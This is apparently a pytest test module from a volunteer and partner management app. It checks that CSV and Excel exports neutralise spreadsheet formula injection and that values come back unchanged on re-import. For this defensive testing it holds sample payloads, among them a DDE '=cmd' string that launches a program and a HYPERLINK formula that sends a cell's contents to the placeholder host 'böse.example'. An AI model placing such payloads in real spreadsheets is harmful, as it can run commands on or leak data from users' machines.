"""CSV and formula injection (issue 15 item 14): exports neutralise, the import gives back exactly
what was stored."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from nfg_desktop.io.exporting import ExportTable, export, write_csv, write_xlsx
from nfg_desktop.io.formulas import neutralise, restore
from nfg_desktop.io.importing import prepare
from nfg_desktop.io.mapping import auto_map
from nfg_desktop.io.readers import read_csv_bytes, read_table
from nfg_desktop.services.partners import ContactData, PartnerData, PartnerService
from nfg_desktop.services.volunteers import VolunteerData, VolunteerService
from nfg_desktop.store.database import Database, open_database
from tests.io.test_export import CONSENT, TODAY, reimport, stored_partners, stored_volunteers

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://böse.example/?d="&A1;"Klick")',
    "+49 711 123456",
    "-5",
    "@SUMME(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=schon mit Apostroph",
    "''zwei",
]


def hostile_db(db: Database) -> None:
    with db.write() as session:
        partners = PartnerService(session)
        partners.create(
            PartnerData(
                name="=cmd|' /C calc'!A0",
                kind='=HYPERLINK("http://x.example";"Klick")',
                phone="+49 711 123456",
                notes="-5 Grad\n=1+1",
                contacts=[
                    ContactData(
                        last_name="@SUMME(A1)",
                        first_name="+Anna",
                        function="-Leitung",
                        phone="+49 7071 1234",
                        is_primary=True,
                        **CONSENT,
                    )
                ],
            )
        )
        partners.create(PartnerData(name="'=Apostroph davor", kind="Verein", contacts=[]))
        VolunteerService(session).create(
            VolunteerData(
                first_name="=Łukasz",
                last_name="-Wróbel",
                birth_year=1970,
                phone="+49 151 2345678",
                skills=["=Kochen", "@Vorlesen"],
                notes="+ kommt montags",
                **CONSENT,
            ),
            TODAY,
        )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_neutralise_formulas_and_read_back_equal(
    db: Database, tmp_path: Path, suffix: str
) -> None:
    hostile_db(db)
    other = open_database(tmp_path / "zweite.sqlite")
    try:
        for kind in ("partners", "volunteers"):
            path = tmp_path / f"{kind}{suffix}"
            with db.read() as session:
                export(session, kind, path, today=TODAY)
            for cell in exported_texts(path):
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
            reimport(path, kind, other)
        assert stored_partners(other) == stored_partners(db)
        assert stored_volunteers(other) == stored_volunteers(db)
    finally:
        other.close()
    # what Excel gets: the apostrophe in front, as it writes one itself
    texts = exported_texts(tmp_path / f"partners{suffix}")
    assert "'=cmd|' /C calc'!A0" in texts
    assert "'+Anna" in texts and "'-5 Grad\n=1+1" in texts
    assert "''=Apostroph davor" in texts


def exported_texts(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return [cell for row in list(csv.reader(handle, delimiter=";"))[1:] for cell in row]
    sheet = load_workbook(path).active
    return [
        cell
        for row in sheet.iter_rows(min_row=2, values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]


def test_a_no_break_space_does_not_hide_a_formula(tmp_path: Path) -> None:
    # a program that trims blanks (LibreOffice's "Leerzeichen entfernen") would see "=1+1"
    table = ExportTable("Liste", ["Name", "Ort"], [["\xa0=1+1", " @x"], ["-", "Ulm"]])
    csv_path, xlsx_path = tmp_path / "liste.csv", tmp_path / "liste.xlsx"
    write_csv(table, csv_path)
    write_xlsx(table, xlsx_path)
    assert csv_path.read_text("utf-8-sig").splitlines()[1:] == ["'\xa0=1+1;' @x", "'-;Ulm"]
    assert exported_texts(xlsx_path) == ["'\xa0=1+1", "' @x", "'-", "Ulm"]
    for path in (csv_path, xlsx_path):
        assert read_table(path).rows == [["\xa0=1+1", " @x"], ["-", "Ulm"]]


def test_the_error_list_neutralises_the_cells_of_the_file(db: Database, tmp_path: Path) -> None:
    data = b'Name;Ort;E-Mail\r\n=HYPERLINK("x");-Ulm;kaputt@\r\n'
    table = read_csv_bytes(data)
    with db.read() as session:
        plan = prepare(session, "partners", table, auto_map("partners", table.headers), TODAY)
    from nfg_desktop.io.importing import dry_run_summary

    target = tmp_path / "fehler.csv"
    dry_run_summary(plan).write_error_csv(target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[1][3:5] == ['\'=HYPERLINK("x")', "'-Ulm"]


@given(st.text(max_size=12))
def test_any_text_comes_back_and_never_starts_a_formula(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert written.lstrip()[:1] not in ("=", "+", "-", "@") and written[:1] not in ("\t", "\r")


@pytest.mark.parametrize("value", HOSTILE)
def test_the_hostile_cells_round_trip(value: str) -> None:
    assert restore(neutralise(value)) == value
